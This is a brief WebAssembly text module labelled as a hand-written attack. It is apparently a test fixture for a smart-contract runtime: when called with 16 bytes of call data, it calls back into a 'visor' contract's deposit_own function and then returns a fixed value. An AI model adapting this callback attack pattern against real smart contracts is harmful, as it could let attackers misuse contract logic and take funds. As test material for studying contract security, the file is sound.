;; The attack by hand.

(module $attacker
  (import "contract:visor" "deposit_own" (func $visor.deposit_own (param i64)))
  (import "ethereum" "finish" (func $finish (param i32 i32)))
  (import "ethereum" "getCallDataSize" (func $getCallDataSize (result i32)))
  (memory $memory (export "memory") 1)

  ;; Ends the call well, with a number of eight bytes.
  (func $give (param $number i64)
    (i64.store $memory (i32.const 64) (local.get $number))
    (call $finish (i32.const 64) (i32.const 8)))

  (func $main (export "main")
    (if (i32.eq (call $getCallDataSize) (i32.const 16))
      (then (call $visor.deposit_own (i64.const 150))))
    (call $give (i64.const 78))))
